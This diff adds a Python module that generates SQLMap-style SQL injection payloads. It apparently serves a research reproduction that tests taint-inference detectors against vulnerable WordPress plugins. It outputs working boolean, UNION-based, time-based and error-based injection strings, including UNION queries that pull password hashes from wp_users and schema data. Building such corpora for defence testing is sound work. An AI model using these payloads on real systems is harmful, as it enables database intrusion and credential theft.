@@ -1,0 +1,153 @@
+"""SQLMap-style attack-variant generation (paper Section V-A, Table II).
+
+The paper ran SQLMap against four plugins -- one per exploit class -- and it
+produced on average 40 valid attack payloads per plugin, all of which both
+NTI and PTI detected.  This module generates an equivalent deterministic
+corpus: for a given plugin it emits ``count`` distinct payload variants of
+the plugin's attack class, mixing the probe families SQLMap actually uses
+(boolean confirmation pairs, UNION column sweeps with NULL padding,
+time-based probes with varying delays/wrappers, error-based probes,
+tautology morphs, comment-style variants).
+
+Payloads are crafted the way SQLMap emits them -- compact spacing, uppercase
+keywords -- which is precisely the form taint inference catches.
+"""
+
+from __future__ import annotations
+
+from ..testbed.plugin_defs import AttackType, PluginDef
+
+__all__ = ["generate_variants"]
+
+
+def _lcg(seed: int):
+    state = seed & 0x7FFFFFFF or 1
+
+    def next_int(bound: int) -> int:
+        nonlocal state
+        state = (state * 48271) % 0x7FFFFFFF
+        return state % bound
+
+    return next_int
+
+
+def _wrap(defn: PluginDef, clause: str) -> str:
+    """Attach a boolean clause to the plugin's injection context."""
+    if defn.context in ("quoted", "like"):
+        return f"x' {clause}-- -"
+    return f"1 {clause}"
+
+
+def _boolean_variants(defn: PluginDef, rand, count: int) -> list[str]:
+    out = []
+    while len(out) < count:
+        a = 1000 + rand(9000)
+        flip = rand(2)
+        b = a if flip == 0 else a + 1 + rand(50)
+        op = ("AND", "OR")[rand(2)]
+        out.append(_wrap(defn, f"{op} {a}={b}"))
+        out.append(_wrap(defn, f"{op} NOT {a}>{a + 1 + rand(9)}"))
+    return out[:count]
+
+
+def _union_variants(defn: PluginDef, rand, count: int) -> list[str]:
+    out = []
+    ncols = defn.select_cols
+    comments = ("", "#", "-- -")
+    # Column-count probing (ORDER BY n) exactly as SQLMap starts.
+    for n in range(1, 7):
+        out.append(f"1 ORDER BY {n}-- -")
+    targets = (
+        ("user_pass", "wp_users"),
+        ("table_name", "information_schema.tables"),
+        ("column_name", "information_schema.columns"),
+    )
+    width = 0
+    while len(out) < count:
+        width = width % (ncols + 2) + 1
+        cols = ["NULL"] * width
+        column, table = targets[rand(len(targets))]
+        cols[rand(width)] = f"CONCAT(0x71766a7671,{column},0x71706b7871)"
+        comment = comments[rand(len(comments))]
+        out.append(
+            f"-{1 + rand(100)} UNION ALL SELECT {','.join(cols)} "
+            f"FROM {table}{comment}"
+        )
+    return out[:count]
+
+
+def _time_variants(defn: PluginDef, rand, count: int) -> list[str]:
+    out = []
+    while len(out) < count:
+        delay = 1 + rand(5)
+        style = rand(3)
+        if style == 0:
+            clause = f"AND SLEEP({delay})"
+        elif style == 1:
+            clause = f"AND (SELECT * FROM (SELECT SLEEP({delay}))x)"
+        else:
+            clause = f"OR IF(1=1,SLEEP({delay}),0)"
+        out.append(_wrap(defn, clause))
+        out.append(_wrap(defn, f"AND BENCHMARK({(1 + rand(20)) * 1000000},MD5({rand(100)}))"))
+    return out[:count]
+
+
+def _error_variants(defn: PluginDef, rand, count: int) -> list[str]:
+    out = []
+    while len(out) < count:
+        marker = 0x716B7A71 + rand(1000)
+        fn = ("EXTRACTVALUE", "UPDATEXML")[rand(2)]
+        if fn == "EXTRACTVALUE":
+            clause = f"AND EXTRACTVALUE({rand(9000)},CONCAT(0x7e,{marker}))"
+        else:
+            clause = f"AND UPDATEXML({rand(9000)},CONCAT(0x7e,{marker}),1)"
+        out.append(_wrap(defn, clause))
+    return out[:count]
+
+
+def _tautology_variants(defn: PluginDef, rand, count: int) -> list[str]:
+    out = []
+    while len(out) < count:
+        a = 1 + rand(500)
+        shapes = [
+            f"OR {a}={a}",
+            f"OR {a}<{a + 1 + rand(9)}",
+            f"OR {a} BETWEEN {a - 1} AND {a + 1}",
+            f"OR NOT {a}>{a + 1}",
+            f"OR {a} IN ({a},{a + 1})",
+        ]
+        clause = shapes[rand(len(shapes))]
+        if defn.context in ("quoted", "like"):
+            out.append(f"x' {clause}-- -")
+        else:
+            out.append(f"0 {clause}")
+    return out[:count]
+
+
+def generate_variants(
+    defn: PluginDef, count: int = 40, seed: int = 1337
+) -> list[str]:
+    """``count`` distinct valid attack payloads for ``defn``'s vulnerability."""
+    rand = _lcg(seed + hash(defn.name) % 100000)
+    if defn.attack_type == AttackType.UNION:
+        variants = _union_variants(defn, rand, count)
+    elif defn.attack_type == AttackType.TAUTOLOGY:
+        variants = _tautology_variants(defn, rand, count)
+    elif defn.attack_type == AttackType.DOUBLE_BLIND:
+        variants = _time_variants(defn, rand, count)
+    else:
+        half = count // 2
+        variants = _boolean_variants(defn, rand, count - half) + _error_variants(
+            defn, rand, half
+        )
+    # Deduplicate while preserving order, then top up with boolean probes.
+    seen: set[str] = set()
+    unique = [v for v in variants if not (v in seen or seen.add(v))]
+    filler = _boolean_variants(defn, rand, count)
+    for extra in filler:
+        if len(unique) >= count:
+            break
+        if extra not in seen:
+            seen.add(extra)
+            unique.append(extra)
+    return unique[:count]
